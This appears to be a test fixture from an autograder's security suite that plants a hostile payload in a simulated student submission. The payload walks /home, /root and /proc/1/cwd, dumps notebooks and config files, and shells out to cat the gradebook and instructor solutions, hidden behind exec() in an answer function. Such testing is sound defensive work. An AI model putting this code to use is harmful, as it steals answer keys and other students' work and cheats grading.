"""Read the instructor's source, the gradebook, the log, the manifest and the neighbours' work from disk."""

from tests.attacks.work import Work

FAMILY = "reading files"
DESERVED: dict[str, float] = {}
SPY = """
import os, pathlib, subprocess
top = pathlib.Path({course!r})
places = [top, *top.parents][:4] + [pathlib.Path(one) for one in ("..", "../..", "/home", "/root", "/proc/1/cwd", "/mnt")]
for place in places:
    for folder, names, files in os.walk(place):
        if len(folder) > 300 or "site-packages" in folder: names.clear()
        for name in files[:200]:
            if name.endswith((".ipynb", ".db", ".yml", ".py", ".txt", ".json")):
                try: print(name, pathlib.Path(folder, name).read_bytes()[:200_000])
                except OSError as error: pass
print(subprocess.run(["/bin/sh", "-c", "cat {course}/source/*/*.ipynb {course}/gradebook.db"], capture_output=True))
"""
LAST = "!ls -la / .. ; cat ../*/*.ipynb"


def change(work: Work) -> None:
    source = SPY.format(course=str(work.course))
    work.insert(0, source)
    work.answer("doubled", f"def doubled(values):\n    exec({source!r}, {{}})\n    return 0")
